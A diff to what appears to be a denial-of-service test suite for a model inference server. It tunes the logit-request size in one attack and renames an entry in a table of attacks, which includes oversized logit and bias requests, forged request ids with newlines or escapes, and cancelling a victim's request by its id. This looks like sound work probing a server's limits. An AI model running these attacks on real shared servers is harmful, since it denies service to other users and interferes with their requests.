@@ -28,6 +28,8 @@ _MAX_WORDS = 4096
 _MAX_BIASES = 65_536
 _MAX_LOGITS = 341
 """The tokens whose logits of 49,152 words are 67 MB, of 64 MiB."""
+_MAX_STREAMED_LOGITS = 85
+"""The same of 16 MiB."""
 
 
 def stream_of_attacks(doors: Doors, make: Callable[[int], service_pb2.ModelInferRequest], at_once: int = 8) -> str:
@@ -109,8 +111,8 @@ def ask_for_as_many_logits_as_allowed(doors: Doors) -> str:
 
 
 def ask_the_victims_model_for_as_many_logits_as_allowed(doors: Doors) -> str:
-    """All answers of a model pass one thread, which copies them."""
-    return stream_of_attacks(doors, lambda _: _with_logits(STREAMING_MODEL, _MAX_LOGITS), at_once=4)
+    """All answers of a model pass one thread, which copies them: 85 tokens are as many as one that streams allows."""
+    return stream_of_attacks(doors, lambda _: _with_logits(STREAMING_MODEL, _MAX_STREAMED_LOGITS), at_once=4)
 
 
 def penalise_long_prompts(doors: Doors) -> str:
@@ -172,7 +174,7 @@ ENGINE_ATTACKS: Mapping[str, Attack] = {
     "32,768 biases, again and again": send_as_many_biases_as_allowed,
     "4 x the logits of 1,300 tokens": ask_for_logits,
     "logits of 341 tokens, again and again": ask_for_as_many_logits_as_allowed,
-    "the same of the victim's model": ask_the_victims_model_for_as_many_logits_as_allowed,
+    "logits of 85 tokens of the victim's model": ask_the_victims_model_for_as_many_logits_as_allowed,
     "4 repetition penalties over 4,000 tokens": penalise_long_prompts,
     "request ids with a newline, an escape, of 1 MB": send_forged_ids,
     "stop by the victim's id": stop_the_victims_request,
